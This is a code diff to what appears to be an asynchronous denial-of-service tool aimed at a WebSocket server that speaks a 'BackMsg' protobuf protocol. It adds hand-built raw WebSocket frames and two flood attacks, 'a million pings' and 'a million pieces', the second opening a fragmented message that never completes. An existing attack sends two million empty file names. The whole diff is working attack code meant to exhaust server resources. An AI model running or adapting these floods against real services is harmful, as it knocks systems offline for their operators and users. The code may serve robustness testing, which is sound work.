@@ -30,6 +30,13 @@ def _runs() -> Iterable[BackMsg]:
         yield message
 
 
+class Raw(bytes):
+    """What goes over the connection as it is: frames that are no messages (RFC 6455, 5.2)."""
+
+
+PING, BEGIN, PIECE = Raw(b"\x89\x80" + bytes(4)), Raw(b"\x02\x80" + bytes(4)), Raw(b"\x00\x80" + bytes(4))
+
+
 def _addresses() -> Iterable[BackMsg]:
     message = BackMsg()
     message.file_urls_request.file_names.extend([""] * 2_000_000)
@@ -48,7 +55,8 @@ ATTACKS = {
 
 def attacks() -> dict[str, list[bytes]]:
     """What each attack sends, made beforehand, as making it would keep the visitors of this program waiting."""
-    return {name: [message.SerializeToString() for message in messages()] for name, messages in ATTACKS.items()}
+    messages = {name: [message.SerializeToString() for message in make()] for name, make in ATTACKS.items()}
+    return messages | {"a million pings": [Raw(PING * 1000)] * 1000, "a million pieces": [BEGIN, *[Raw(PIECE * 1000)] * 1000]}
 
 
 async def attack(address: str, messages: list[bytes]) -> None:
@@ -58,7 +66,11 @@ async def attack(address: str, messages: list[bytes]) -> None:
     try:
         async with connect(stream, subprotocols=spoken, origin=Origin(address), max_size=None, proxy=None) as line:
             for message in messages:
-                await line.send(message)
+                if isinstance(message, Raw):
+                    line.transport.write(message)
+                    await asyncio.sleep(0)
+                else:
+                    await line.send(message)
             await asyncio.sleep(SECONDS)
     except ConnectionClosed:
         pass
